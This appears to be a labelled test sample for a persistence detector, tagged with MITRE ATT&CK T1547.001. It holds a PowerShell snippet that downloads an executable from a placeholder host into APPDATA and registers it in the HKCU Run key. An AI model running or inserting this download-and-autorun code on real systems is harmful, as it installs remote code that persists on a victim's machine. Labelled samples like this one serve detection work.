# expect: persistence | source: MITRE ATT&CK T1547.001
$p = "$env:APPDATA\upd.exe"
(New-Object Net.WebClient).DownloadFile('http://files.example.invalid/upd.exe', $p)
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name upd -Value $p
